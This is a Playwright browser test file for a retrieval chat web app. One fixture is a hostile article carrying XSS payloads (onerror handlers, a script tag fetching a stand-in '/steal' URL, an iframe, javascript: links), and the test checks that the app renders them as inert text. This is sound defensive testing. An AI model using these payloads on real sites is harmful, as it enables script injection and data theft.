@@ -1,0 +1,448 @@
+"""The chat page in a real browser: Debian chromium (headless) driven by Playwright.
+
+The page talks to a real uvicorn on 127.0.0.1 serving create_app over a copy of the shipped
+corpus index, in extractive mode (no LLM). Never `playwright install`: the browser is
+/usr/bin/chromium (`make browser-deps` installs it with apt).
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+import socket
+import threading
+import time
+from collections.abc import Iterator
+from contextlib import contextmanager
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import httpx
+import pytest
+from playwright.sync_api import Browser, ConsoleMessage, Dialog, Locator, Page, Request
+
+from index import Embedder
+from rag.settings import Settings
+
+pytestmark = pytest.mark.browser
+
+ROOT = Path(__file__).resolve().parents[2]
+ARTIFACTS = ROOT / "artifacts"
+CHROMIUM = Path("/usr/bin/chromium")
+CHROMIUM_ARGS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--no-first-run",
+]
+ANSWERABLE = "How much will Alibaba invest in its overseas research hubs?"
+UNANSWERABLE = "What is the capital of Australia?"
+ANSWER_TIMEOUT_MS = 30_000
+
+# Every trick an article could use to run script or load something remote, as plain text.
+HOSTILE_TITLE = 'Quokka <img src=x onerror="window.__pwned=1;alert(1)"> Gazette'
+HOSTILE_BODY = """\
+Quokka Gazette reports that the Wombat Shipping Company will open a ferry terminal in \
+Tromsø <img src=x onerror="window.__pwned=2;alert(2)"> by the spring of 2031.
+
+<script>window.__pwned = 3; alert(3); fetch("http://example.invalid/steal")</script>
+
+The terminal will serve **twelve** ferries a day ![logo](http://example.invalid/a.png) \
+according to the <iframe src="http://example.invalid/frame"></iframe> harbour office.
+
+<style>body { background: url(http://example.invalid/b.png) }</style>
+<link rel="stylesheet" href="http://example.invalid/c.css">
+<a href="javascript:alert(4)">click</a> [more](javascript:alert(5))
+"""
+
+
+def hostile_markdown() -> str:
+    """A Markdown article whose title and body carry script, handlers and remote loads."""
+    title = json.dumps(HOSTILE_TITLE)
+    return f"---\nid: quokka-hostile\ntitle: {title}\nsource: Quokka Gazette\n---\n{HOSTILE_BODY}"
+
+
+@contextmanager
+def serve(index_dir: Path, embedder: Embedder) -> Iterator[str]:
+    """create_app (extractive, no LLM) under a real uvicorn on a free loopback port."""
+    import uvicorn
+
+    from api.app import create_app
+
+    settings = Settings(  # type: ignore[call-arg]
+        _env_file=None,
+        index_dir=index_dir,
+        llm_base_url=None,
+        api_key=None,
+        rate_limit_per_minute=0,
+    )
+    app = create_app(settings, embedder=embedder)
+    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    sock.bind(("127.0.0.1", 0))
+    config = uvicorn.Config(app, log_level="warning", access_log=False, lifespan="on")
+    server = uvicorn.Server(config)
+    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
+    thread.start()
+    deadline = time.monotonic() + 60
+    while not server.started:
+        assert thread.is_alive() and time.monotonic() < deadline, "uvicorn did not start"
+        time.sleep(0.05)
+    try:
+        yield f"http://127.0.0.1:{sock.getsockname()[1]}"
+    finally:
+        server.should_exit = True
+        thread.join(timeout=15)
+        sock.close()
+
+
+@pytest.fixture(scope="module")
+def base_url(
+    corpus_index_dir: Path, embedder: Embedder, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[str]:
+    index_dir = tmp_path_factory.mktemp("web-index") / "index"
+    shutil.copytree(corpus_index_dir, index_dir)
+    with serve(index_dir, embedder) as url:
+        yield url
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    if not CHROMIUM.exists():
+        pytest.fail(
+            "Debian chromium is missing: run `make browser-deps` (apt-get install chromium)"
+        )
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
+        yield browser
+        browser.close()
+
+
+class PageWatch:
+    """What a page did that it must not: dialogs, script errors, CSP reports, remote requests."""
+
+    def __init__(self, page: Page) -> None:
+        self.dialogs: list[str] = []
+        self.errors: list[str] = []
+        self.csp: list[str] = []
+        self.requests: list[str] = []
+        self.outside: list[str] = []
+        page.on("dialog", self._dialog)
+        page.on("pageerror", lambda exc: self.errors.append(str(exc)))
+        page.on("console", self._console)
+        page.on("request", self._request)
+
+    def _dialog(self, dialog: Dialog) -> None:
+        self.dialogs.append(dialog.message)
+        dialog.dismiss()
+
+    def _console(self, message: ConsoleMessage) -> None:
+        if "Content Security Policy" in message.text:
+            self.csp.append(message.text)
+
+    def _request(self, request: Request) -> None:
+        self.requests.append(request.url)
+        parts = urlsplit(request.url)
+        if parts.scheme not in ("http", "https") or parts.hostname != "127.0.0.1":
+            self.outside.append(request.url)
+
+    def assert_clean(self) -> None:
+        assert self.dialogs == [], f"a dialog fired: {self.dialogs}"
+        assert self.errors == [], f"script errors: {self.errors}"
+        assert self.csp == [], f"CSP violations: {self.csp}"
+        assert self.outside == [], f"requests outside 127.0.0.1: {self.outside}"
+
+
+def open_page(browser: Browser, base_url: str, width: int, height: int) -> tuple[Page, PageWatch]:
+    """A fresh browser context on the chat page, watched from its first request."""
+    page = browser.new_context(viewport={"width": width, "height": height}).new_page()
+    watch = PageWatch(page)
+    page.goto(base_url + "/")
+    page.wait_for_selector("body[data-ready='true']")
+    return page, watch
+
+
+@pytest.fixture
+def chat(browser: Browser, base_url: str) -> Iterator[tuple[Page, PageWatch]]:
+    page, watch = open_page(browser, base_url, 1280, 900)
+    yield page, watch
+    page.context.close()
+
+
+def ask(page: Page, question: str) -> Locator:
+    """Type a question, press Enter, and wait for that turn's final answer; return its element."""
+    before = page.locator(".msg.assistant").count()
+    page.locator("#question").fill(question)
+    page.locator("#question").press("Enter")
+    reply = page.locator(".msg.assistant").nth(before)
+    reply.and_(page.locator("[aria-busy='false']")).wait_for(timeout=ANSWER_TIMEOUT_MS)
+    return reply
+
+
+def citations_of(base_url: str, question: str) -> list[dict[str, object]]:
+    """The citations the API gives for a question (the page must show these)."""
+    response = httpx.post(f"{base_url}/v1/ask", json={"question": question}, timeout=60)
+    response.raise_for_status()
+    citations: list[dict[str, object]] = response.json()["citations"]
+    return citations
+
+
+def document_text(base_url: str, doc_id: str) -> str:
+    """The cleaned text of one article, as the API serves it."""
+    response = httpx.get(f"{base_url}/v1/documents/{doc_id}", timeout=30)
+    response.raise_for_status()
+    text: str = response.json()["text"]
+    return text
+
+
+COUNT_STREAMED_TEXT = """() => {
+  window.__streamedChunks = 0;
+  const log = document.getElementById("conversation");
+  new MutationObserver((records) => {
+    for (const r of records) {
+      const node = r.target.nodeType === Node.TEXT_NODE ? r.target.parentElement : r.target;
+      if (node && node.closest && node.closest(".stream-text")) window.__streamedChunks += 1;
+    }
+  }).observe(log, { subtree: true, childList: true, characterData: true });
+}"""
+
+
+def test_answer_streams_in_and_its_marker_opens_the_highlighted_passage(
+    chat: tuple[Page, PageWatch], base_url: str
+) -> None:
+    page, watch = chat
+    page.evaluate(COUNT_STREAMED_TEXT)
+    with page.expect_response("**/v1/ask/stream") as streamed:
+        reply = ask(page, ANSWERABLE)
+    assert streamed.value.headers["content-type"].startswith("text/event-stream")
+    assert page.evaluate("window.__streamedChunks") > 0, "no token was rendered while streaming"
+    assert "15 billion" in reply.locator(".answer-text").inner_text()
+    markers = reply.locator("button.marker")
+    assert markers.count() >= 1
+    expected = citations_of(base_url, ANSWERABLE)
+    assert page.locator("#source-list > li").count() == len(expected)
+
+    first = markers.first
+    cited = next(c for c in expected if c["marker"] == int(first.get_attribute("data-marker") or 0))
+    first.click()
+    mark = page.locator("#viewer-text mark.cited")
+    mark.wait_for()
+    text = document_text(base_url, str(cited["doc_id"]))
+    assert page.locator("#viewer-text").inner_text() == text  # the whole article, as text
+    assert mark.inner_text() == text[int(str(cited["start"])) : int(str(cited["end"]))]
+    assert page.locator("#viewer-title").inner_text() == cited["title"]
+    assert page.evaluate("document.activeElement.id") == "viewer-title"
+    page.wait_for_timeout(100)  # let the article box settle its scroll before the picture
+    assert mark.is_visible()
+    ARTIFACTS.mkdir(exist_ok=True)
+    page.screenshot(path=str(ARTIFACTS / "web-answer.png"), full_page=True)
+    watch.assert_clean()
+
+
+def test_unanswerable_question_shows_the_refusal(chat: tuple[Page, PageWatch]) -> None:
+    page, watch = chat
+    reply = ask(page, UNANSWERABLE)
+    assert "refusal" in (reply.get_attribute("class") or "")
+    notice = reply.locator(".notice-refusal")
+    assert notice.is_visible()
+    assert "No answer in the sources" in notice.inner_text()
+    assert reply.locator("button.marker").count() == 0
+    assert page.locator("#source-list > li").count() == 0
+    watch.assert_clean()
+
+
+def test_follow_up_sends_the_conversation_and_new_conversation_clears_it(
+    chat: tuple[Page, PageWatch],
+) -> None:
+    page, watch = chat
+    first = ask(page, ANSWERABLE)
+    first_text = first.locator(".answer-text").inner_text()
+    with page.expect_request("**/v1/ask/stream") as follow_up:
+        ask(page, "Which countries will the research centres be in?")
+    history = follow_up.value.post_data_json["history"]
+    assert [m["role"] for m in history] == ["user", "assistant"]
+    assert history[0]["content"] == ANSWERABLE
+    assert "15 billion" in history[1]["content"] and "15 billion" in first_text
+
+    page.get_by_role("button", name="New conversation").click()
+    assert page.locator(".turn").count() == 0
+    with page.expect_request("**/v1/ask/stream") as fresh:
+        ask(page, UNANSWERABLE)
+    assert fresh.value.post_data_json["history"] == []
+    watch.assert_clean()
+
+
+def test_keyboard_only_use(chat: tuple[Page, PageWatch]) -> None:
+    page, watch = chat
+    box = page.locator("#question")
+    box.click()
+    page.keyboard.type("first line")
+    page.keyboard.press("Shift+Enter")
+    page.keyboard.type("second line")
+    assert box.input_value() == "first line\nsecond line"
+    assert page.locator(".turn").count() == 0  # Shift+Enter did not send
+    box.fill(ANSWERABLE)
+    box.press("Enter")
+    page.locator(".msg.assistant[aria-busy='false'] button.marker").first.wait_for(
+        timeout=ANSWER_TIMEOUT_MS
+    )
+    assert page.locator("#conversation").get_attribute("aria-live") == "polite"
+
+    page.evaluate("document.activeElement.blur()")
+    for _ in range(40):  # a marker is a real control, reachable with Tab
+        page.keyboard.press("Tab")
+        if page.evaluate("document.activeElement.classList.contains('marker')"):
+            break
+    else:
+        pytest.fail("no citation marker was reachable with Tab")
+    marker = page.evaluate("document.activeElement.dataset.marker")
+    page.keyboard.press("Enter")
+    page.locator("#viewer-text mark.cited").wait_for()
+    assert page.evaluate("document.activeElement.id") == "viewer-title"
+    page.keyboard.press("Escape")
+    assert page.locator("#viewer").is_hidden()
+    assert page.evaluate("document.activeElement.dataset.marker") == marker  # focus came back
+    watch.assert_clean()
+
+
+def test_phone_width_layout(browser: Browser, base_url: str) -> None:
+    page, watch = open_page(browser, base_url, 375, 740)
+    try:
+        overflow = "document.documentElement.scrollWidth - window.innerWidth"
+        assert page.evaluate(overflow) <= 0
+        reply = ask(page, ANSWERABLE)
+        assert page.evaluate(overflow) <= 0  # the answer wraps; nothing scrolls sideways
+        send = page.locator("#send").bounding_box()
+        assert send is not None and send["x"] + send["width"] <= 375
+        reply.locator("button.marker").first.click()
+        page.locator("#viewer-text mark.cited").wait_for()
+        box = page.locator("#viewer").bounding_box()
+        assert box is not None and box["x"] == 0 and box["width"] == 375  # full-screen article
+        ARTIFACTS.mkdir(exist_ok=True)
+        page.screenshot(path=str(ARTIFACTS / "web-phone-passage.png"))
+        page.locator("#viewer-close").click()
+        assert page.locator("#viewer").is_hidden()
+        watch.assert_clean()
+    finally:
+        page.context.close()
+
+
+def test_hostile_article_is_shown_as_text_and_loads_nothing(
+    chat: tuple[Page, PageWatch], base_url: str, tmp_path: Path
+) -> None:
+    page, watch = chat
+    path = tmp_path / "quokka.md"
+    path.write_text(hostile_markdown(), encoding="utf-8")
+    try:
+        page.get_by_role("button", name="Documents").click()
+        page.locator("#file-input").set_input_files(str(path))
+        row = page.locator(".upload[data-filename='quokka.md']")
+        row.and_(page.locator("[data-status]")).wait_for(timeout=ANSWER_TIMEOUT_MS)
+        assert row.get_attribute("data-status") == "added", row.inner_text()
+
+        doc = page.locator(".doc[data-doc-id='quokka-hostile']")
+        doc.wait_for()
+        assert doc.locator(".doc-title").inner_text() == HOSTILE_TITLE
+        doc.locator(".doc-title").click()
+        page.locator("#viewer-text").get_by_text("window.__pwned = 3").wait_for()
+        shown = page.locator("#viewer-text").inner_text()
+        assert shown == document_text(base_url, "quokka-hostile")
+        for literal in ["<script>", "onerror=", "![logo](http://example.invalid/a.png)", "<iframe"]:
+            assert literal in shown
+        assert page.locator("#viewer-title").inner_text() == HOSTILE_TITLE
+
+        page.get_by_role("button", name="Chat").click()
+        reply = ask(page, "Where will the Wombat Shipping Company open a ferry terminal?")
+        assert "Tromsø" in reply.inner_text()
+        reply.locator("button.marker").first.click()
+        page.locator("#viewer-text mark.cited").wait_for()
+
+        injected = (
+            "img, script:not([src^='/static/']), iframe, object, embed, style, link[href^='http']"
+        )
+        assert page.locator(injected).count() == 0
+        assert page.evaluate("typeof window.__pwned") == "undefined"
+        watch.assert_clean()
+        assert any("/v1/documents" in url for url in watch.requests)  # the watch saw traffic
+    finally:
+        httpx.delete(f"{base_url}/v1/documents/quokka-hostile", timeout=30)
+
+
+DROP_FILES = """([name1, text1, name2, text2]) => {
+  const dt = new DataTransfer();
+  dt.items.add(new File([text1], name1, { type: "text/markdown" }));
+  dt.items.add(new File([text2], name2, { type: "text/plain" }));
+  return dt;
+}"""
+
+
+def test_upload_by_drag_and_drop_then_delete(chat: tuple[Page, PageWatch], base_url: str) -> None:
+    page, watch = chat
+    article = (
+        "---\nid: drop-test\ntitle: Lighthouse keepers return to Skerryvore\n"
+        "source: Test Wire\npublished_at: 2024-03-05\n---\n"
+        "Lighthouse keepers returned to Skerryvore on Tuesday after a decade of automation.\n"
+    )
+    page.get_by_role("button", name="Documents").click()
+    transfer = page.evaluate_handle(DROP_FILES, ["drop-test.md", article, "blank.txt", "   \n"])
+    page.locator("#dropzone").dispatch_event("drop", {"dataTransfer": transfer})
+
+    good = page.locator(".upload[data-filename='drop-test.md']")
+    bad = page.locator(".upload[data-filename='blank.txt']")
+    bad.and_(page.locator("[data-status]")).wait_for(timeout=ANSWER_TIMEOUT_MS)
+    assert good.get_attribute("data-status") == "added", good.inner_text()
+    assert bad.get_attribute("data-status") == "failed"
+    assert "failed:" in bad.inner_text()  # the server's reason is shown per file
+
+    doc = page.locator(".doc[data-doc-id='drop-test']")
+    doc.wait_for()
+    assert "Test Wire, 2024-03-05" in doc.inner_text()
+    delete = doc.get_by_role("button", name="Delete Lighthouse keepers return to Skerryvore")
+    delete.click()
+    assert delete.inner_text() == "Confirm delete"  # two steps, no native dialog
+    delete.click()
+    doc.wait_for(state="detached", timeout=ANSWER_TIMEOUT_MS)
+    assert httpx.get(f"{base_url}/v1/documents/drop-test", timeout=30).status_code == 404
+    watch.assert_clean()
+
+
+def test_page_headers_from_the_app(base_url: str) -> None:
+    response = httpx.get(base_url + "/", timeout=30)
+    assert response.status_code == 200
+    csp = response.headers["content-security-policy"]
+    assert "script-src 'self'" in csp and "object-src 'none'" in csp
+    assert "frame-ancestors 'none'" in csp
+    assert response.headers["x-content-type-options"] == "nosniff"
+    assert response.headers["referrer-policy"] == "no-referrer"
+
+
+SSE_SAMPLE = (
+    'event: token\r\ndata: {"text":"a"}\r\n\r\n'  # CRLF line ends
+    ": ping\n\n"  # a comment (keep-alive)
+    "event: final\ndata: one\ndata: two\n\n"  # multi-line data
+)
+
+
+def test_sse_parser_is_indifferent_to_chunk_boundaries(chat: tuple[Page, PageWatch]) -> None:
+    page, _ = chat
+    results = page.evaluate(
+        """async (sample) => {
+          const { SseParser } = await import("/static/sse.js");
+          const runs = [];
+          for (let cut = 0; cut <= sample.length; cut += 1) {
+            const events = [];
+            const parser = new SseParser((e) => events.push(e));
+            parser.push(sample.slice(0, cut));
+            parser.push(sample.slice(cut));
+            parser.finish();
+            runs.push(JSON.stringify(events));
+          }
+          return [...new Set(runs)];
+        }""",
+        SSE_SAMPLE,
+    )
+    expected = [{"event": "token", "data": '{"text":"a"}'}, {"event": "final", "data": "one\ntwo"}]
+    assert [json.loads(r) for r in results] == [expected]
